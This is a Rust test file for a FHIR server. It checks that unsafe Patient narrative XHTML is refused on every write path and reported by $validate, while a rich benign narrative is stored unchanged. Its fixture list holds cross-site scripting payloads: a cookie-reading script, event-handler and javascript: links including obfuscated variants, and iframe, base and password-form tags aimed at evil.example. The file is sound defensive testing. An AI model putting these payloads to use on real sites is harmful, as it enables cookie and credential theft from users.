//! Narrative (issue 13, defect 10): a `Narrative.div` that is not R4's safe XHTML (txt-1, txt-2) is
//! refused with 400 naming `text.div` on every write path — create, update, patch, a transaction
//! entry, a contained resource — and reported by `$validate`; nothing hostile is ever stored. A rich
//! benign narrative is stored and read back byte for byte.

use carapace_tests::*;

const NS: &str = "http://www.w3.org/1999/xhtml";

fn div(inner: &str) -> String {
    format!("<div xmlns=\"{NS}\">{inner}</div>")
}

fn patient_with(div: &str) -> Value {
    json!({"resourceType": "Patient", "text": {"status": "generated", "div": div},
           "name": [{"family": "Narrative"}]})
}

/// Each hostile narrative, named for the report. Before this change every one was stored as sent.
fn hostile() -> Vec<(&'static str, String)> {
    vec![
        (
            "script element",
            div("<script>alert(document.cookie)</script>x"),
        ),
        (
            "onclick attribute",
            div("<p onclick=\"alert(1)\">click</p>"),
        ),
        (
            "img onerror",
            div("<img src=\"x.png\" onerror=\"alert(1)\"/>"),
        ),
        (
            "javascript: href",
            div("<a href=\"javascript:alert(1)\">x</a>"),
        ),
        (
            "mixed-case javascript: href",
            div("<a href=\"JaVaScRiPt:alert(1)\">x</a>"),
        ),
        (
            "entity-obfuscated javascript: href",
            div("<a href=\" java&#x09;script&#x3A;alert(1)\">x</a>"),
        ),
        (
            "data:text/html link",
            div("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>"),
        ),
        (
            "iframe",
            div("<iframe src=\"https://evil.example/\"></iframe>x"),
        ),
        ("base", div("<base href=\"https://evil.example/\"/>x")),
        ("object", div("<object data=\"x.swf\"></object>x")),
        (
            "form",
            div("<form action=\"https://evil.example/\"><input name=\"pw\"/></form>"),
        ),
        (
            "script URL in inline CSS",
            div("<p style=\"background:url(javascript:alert(1))\">x</p>"),
        ),
        ("missing XHTML namespace", "<div><p>x</p></div>".to_string()),
        ("unclosed tag", div("<p>x")),
        (
            "DOCTYPE with entities",
            format!("<!DOCTYPE div [<!ENTITY a \"aaaa\">]><div xmlns=\"{NS}\">&a;</div>"),
        ),
        (
            "CDATA section",
            div("<![CDATA[ ><img src=x onerror=alert(1)> ]]>"),
        ),
        ("empty content (txt-2)", div("  \n  ")),
    ]
}

/// 400, an OperationOutcome, an issue at `path`, and no echo of the attack.
fn assert_refused(what: &str, r: &HttpResponse, path: &str) {
    assert_eq!(r.status, 400, "{what}: {}", r.text());
    let oo = r.json();
    assert_eq!(
        oo["resourceType"],
        "OperationOutcome",
        "{what}: {}",
        r.text()
    );
    let at_path = oo["issue"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["expression"][0] == path);
    assert!(at_path, "{what}: no issue at {path}: {}", r.text());
    let text = r.text();
    assert!(
        !text.contains("alert") && !text.contains("evil.example"),
        "{what}: the outcome echoes the input: {text}"
    );
}

#[tokio::test]
async fn hostile_narratives_are_refused_on_every_write_path() {
    let stack = Stack::start().await.unwrap();
    let fhir = stack.fhir();
    // A stored patient to update and patch.
    let r = fhir.post("Patient", &patient_with(&div("safe"))).await;
    assert_eq!(r.status, 201, "{}", r.text());
    let id = r.json()["id"].as_str().unwrap().to_string();
    let before = stack.stored_versions().await;

    for (what, hostile) in hostile() {
        let r = fhir.post("Patient", &patient_with(&hostile)).await;
        assert_refused(what, &r, "Patient.text.div");

        let mut update = patient_with(&hostile);
        update["id"] = json!(id);
        let r = fhir.put(&format!("Patient/{id}"), &update).await;
        assert_refused(what, &r, "Patient.text.div");

        let ops = json!([{"op": "replace", "path": "/text/div", "value": hostile}]);
        let r = fhir
            .raw(
                "PATCH",
                &format!("Patient/{id}"),
                ops.to_string().into_bytes(),
                &[("Content-Type", "application/json-patch+json")],
            )
            .await;
        assert_refused(what, &r, "Patient.text.div");

        let contained = json!({"resourceType": "Observation", "status": "final",
            "code": {"text": "x"}, "subject": {"reference": "#p"},
            "contained": [{"resourceType": "Patient", "id": "p",
                           "text": {"status": "generated", "div": hostile}}]});
        let r = fhir.post("Observation", &contained).await;
        assert_refused(
            what,
            &r,
            "Observation.contained[0].ofType(Patient).text.div",
        );

        let tx = json!({"resourceType": "Bundle", "type": "transaction", "entry": [
            {"resource": patient_with(&div("fine")), "request": {"method": "POST", "url": "Patient"}},
            {"resource": patient_with(&hostile), "request": {"method": "POST", "url": "Patient"}}]});
        let r = fhir.post("", &tx).await;
        assert_eq!(r.status, 400, "{what} in a transaction: {}", r.text());
        let text = r.text();
        assert!(
            text.contains("Bundle.entry[1]") && text.contains("text.div"),
            "{what} in a transaction: {text}"
        );
        assert!(!text.contains("alert"), "{what}: echoed: {text}");

        // $validate reports the same problem (200 with an error issue) and stores nothing.
        let r = fhir
            .post("Patient/$validate", &patient_with(&hostile))
            .await;
        assert_eq!(r.status, 200, "{what} $validate: {}", r.text());
        let issues = r.json()["issue"].as_array().unwrap().clone();
        assert!(
            issues
                .iter()
                .any(|i| i["severity"] == "error" && i["expression"][0] == "Patient.text.div"),
            "{what} $validate: {}",
            r.text()
        );
    }
    assert_eq!(
        stack.stored_versions().await,
        before,
        "no hostile narrative was stored"
    );
    // The stored narrative is still the safe one.
    let read = fhir.get(&format!("Patient/{id}")).await;
    assert_eq!(read.json()["text"]["div"], div("safe"));
    assert!(!stack.server.log_text().contains("panicked"));
}

#[tokio::test]
async fn a_rich_benign_narrative_is_stored_and_read_back_unchanged() {
    let stack = Stack::start().await.unwrap();
    let fhir = stack.fhir();
    let rich = div(concat!(
        "<h2 class=\"title\">Peter James <b>Chalmers</b></h2>",
        "<p style=\"color: rgb(0, 0, 0); background-color: #F7F7F7\">Born <span class=\"date\" ",
        "title=\"birth date\">1974-12-25</span> &amp; &lt;not a tag&gt; &#x2014; done</p>",
        "<table border=\"0\" cellpadding=\"1\"><thead><tr><th scope=\"col\">Code</th></tr></thead>",
        "<tbody><tr><td colspan=\"2\" style=\"vertical-align: top\">12345</td></tr></tbody></table>",
        "<img src=\"data: image/png;base64,iVBORw0KGgo=\" alt=\"icon\"/>",
        "<img src=\"https://example.org/logo.png\" alt=\"logo\" width=\"10\"/>",
        "<a href=\"http://hl7.org/fhir\">spec</a> <a href=\"#top\">top</a> ",
        "<a href=\"Patient/example\">record</a> <a name=\"top\">anchor</a>",
        "<ul><li>one</li></ul><pre xml:space=\"preserve\">  kept  </pre>",
        "<!-- a harmless comment -->",
    ));
    let r = fhir.post("Patient", &patient_with(&rich)).await;
    assert_eq!(r.status, 201, "{}", r.text());
    let id = r.json()["id"].as_str().unwrap().to_string();
    let read = fhir.get(&format!("Patient/{id}")).await;
    assert_eq!(read.status, 200);
    assert_eq!(read.json()["text"]["div"], rich, "byte for byte");

    let ok = fhir.post("Patient/$validate", &patient_with(&rich)).await;
    assert_eq!(
        ok.json()["issue"][0]["severity"],
        "information",
        "{}",
        ok.text()
    );
}
